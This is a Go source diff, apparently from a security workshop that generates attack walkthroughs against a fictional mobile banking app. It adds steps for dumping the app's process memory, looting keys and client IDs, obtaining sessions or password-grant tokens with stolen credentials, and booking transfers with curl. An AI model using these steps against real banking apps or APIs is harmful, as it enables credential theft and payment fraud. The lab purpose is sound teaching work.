@@ -27,6 +27,11 @@ func keysInURLs(p catalog.Policies) bool       { return p.Call.KeyPlace == catal
 func noKeysInURLs(p catalog.Policies) bool     { return p.Call.KeyPlace != catalog.KeyInPublicURLs }
 func withDevices(p catalog.Policies) bool      { return p.Call.Devices == catalog.RegisteredDevices }
 func withUsers(p catalog.Policies) bool        { return p.Call.UserProof != catalog.NoUser }
+func withSessions(p catalog.Policies) bool     { return p.Call.UserProof == catalog.UserSession }
+func withTokens(p catalog.Policies) bool       { return p.Call.UserProof == catalog.AccessToken }
+func byPassword(p catalog.Policies) bool       { return p.Auth.Offers(catalog.PasswordGrant) }
+func staysSignedIn(p catalog.Policies) bool    { return p.Call.UserKey == catalog.UserKeyInStorage }
+func forgetsUsers(p catalog.Policies) bool     { return p.Call.UserKey == catalog.UserKeyInMemory }
 func withoutUsers(p catalog.Policies) bool     { return p.Call.UserProof == catalog.NoUser }
 func secretsInClear(p catalog.Policies) bool   { return p.Package.Secrets == catalog.ClearSecrets }
 func secretsHidden(p catalog.Policies) bool    { return p.Package.Secrets == catalog.HiddenSecrets }
@@ -62,11 +67,11 @@ var (
 
 	victimPays = slices.Concat(
 		passwordOf("alice"), signIn("alice"),
-		say("Have the victim come by, and pay: `mobileclient --phone alice --stage {stage} --access-point {here} transfer --to HB-2001 --amount 1.00 --reference {attack}`."),
+		say("Have the victim come by, and pay: `mobileclient --phone alice --stage {stage}{as alice} --access-point {here} transfer --to HB-2001 --amount 1.00 --reference {attack}`."),
 	)
 
 	hooked = slices.Concat(
-		say("Use the genuine app on your own phone, and write down the memory of its process, as gcore does: `mobileclient --phone mallory --stage {stage} --memory memory.bin accounts`."),
+		say("Use the genuine app on your own phone, and write down the memory of its process, as gcore does: `mobileclient --phone mallory --stage {stage}{as mallory} --memory memory.bin accounts`."),
 		say("Search it for the shapes that you know: keys, certificates, requests that were sent: `stages loot memory.bin`."),
 		say("A secret is told by a signed request in the same memory: it is the text there that makes the same MAC.").at(signed),
 	)
@@ -79,7 +84,12 @@ var (
 	ownSession = slices.Concat(
 		say("Sign in with a program of your own: `{sign} -X POST -u \"mallory:$(cat mallory.txt)\" -H @- {api}/v1/session < loot/device.txt | {fetch} -K - | stages open --secret \"$(cat loot/secret)\" > session.json`."),
 		say("Keep the fields that stand for you: `python3 -c 'import json; print(\"Authorization: Session\", json.load(open(\"session.json\"))[\"session_key\"])' | cat - loot/device.txt > own-session.txt`."),
-	).at(withUsers)
+	).at(withSessions)
+
+	ownToken = slices.Concat(
+		say("Get an access token with a program of your own, in the name of the app: `{fetch} -d grant_type=password -d \"client_id=$(cat loot/client-id)\" -d username=mallory --data-urlencode \"password=$(cat mallory.txt)\" {api}/v1/token > token.json`."),
+		say("Keep the field that stands for you: `python3 -c 'import json; print(\"Authorization: Bearer\", json.load(open(\"token.json\"))[\"access_token\"])' > own-session.txt`."),
+	).at(byPassword)
 )
 
 // passwordOf takes a password of the workshop's.
@@ -87,9 +97,10 @@ func passwordOf(user string) walk {
 	return say("Look up the password of " + user + ", who uses the app: `python3 -c 'import json; print(json.load(open(\"{passwords}\"))[\"" + user + "\"])' > " + user + ".txt`.").at(withUsers)
 }
 
-// signIn signs a user in with the genuine app on a phone of their own.
+// signIn signs a user in with the genuine app on a phone of their own, which remembers that.
+// Where it does not, its next command has to: that is what {as …} is for.
 func signIn(user string) walk {
-	return say("Sign " + user + " in: `mobileclient --phone " + user + " --stage {stage} sign-in --user " + user + " --password-file " + user + ".txt`.").at(withUsers)
+	return say("Sign " + user + " in: `mobileclient --phone " + user + " --stage {stage} sign-in --user " + user + " --password-file " + user + ".txt`.").at(staysSignedIn)
 }
 
 // book books a transfer with a program of one's own, with what was found. The file has the
@@ -97,7 +108,8 @@ func signIn(user string) walk {
 func book(from, to, fields string) walk {
 	payment := payment(from, to)
 	return slices.Concat(
-		say("Book a transfer with a program of your own: `{curl} {cert} {field} --json '"+payment+"' {api}/v1/transfers`.").at(withKeys),
+		say("Book a transfer with a program of your own: `{curl} {cert} {field} --json '"+payment+"' {api}/v1/transfers`.").at(withKeys).at(withoutUsers),
+		say("Book a transfer with a program of your own: `{curl} {cert} {field} -H @"+fields+" --json '"+payment+"' {api}/v1/transfers`.").at(withKeys).at(withUsers),
 		say("Book a transfer with a program of your own: `{sign}{seal} -H @- -d '"+payment+"' {api}/v1/transfers < "+fields+" | {curl} {cert} -K -`.").at(signed),
 	)
 }
@@ -124,21 +136,31 @@ func Steps(a catalog.Attack, stage catalog.Stage) []string {
 	if stage.Call.Bodies == catalog.SealedBodies {
 		seal = " --seal"
 	}
+	as := func(user string) string {
+		if forgetsUsers(stage.Policies) {
+			return " --user " + user + " --password-file " + user + ".txt"
+		}
+		return ""
+	}
 	agent := fmt.Sprintf(" -A HarbourBank/%d.0", stage.Package.Release)
 	filled := strings.NewReplacer(
 		"{api}", api+stage.Slug,
 		"{curl}", "curl -i"+trust+agent,
 		"{fetch}", "curl -sS"+trust+cert+agent, // for a file
 		" {cert}", cert,
-		" {field}", ` -H "Authorization: key $(cat loot/client-id)"`,
+		" {field}", fmt.Sprintf(` -H "%s: key $(cat loot/client-id)"`, stage.Call.AppProofField()),
+		"{proof}", stage.Call.AppProofField(),
 		"{sign}", `stages sign --secret "$(cat loot/secret)"`,
 		"{seal}", seal,
 		"{rob}", strings.ReplaceAll(payment("HB-1001", "HB-3001"), "{attack}", a.Name),
 		"{attack}", a.Name,
+		"{as alice}", as("alice"),
+		"{as mallory}", as("mallory"),
 		"{stage}", stage.Slug,
 		"{package}", fmt.Sprintf("harbour-bank-%d.pkg", stage.Package.Release),
 		"{passwords}", "data/phone/passwords.json",
-		"{storage}", "data/phone/command-line-lost/storage",
+		"{storage}", "data/phone/command-line-lost-"+stage.Slug+"/storage",
+		"{new phone}", "data/phone/command-line-new-"+stage.Slug,
 		"{here}", "127.0.0.1:8082",
 	)
 	var steps []string
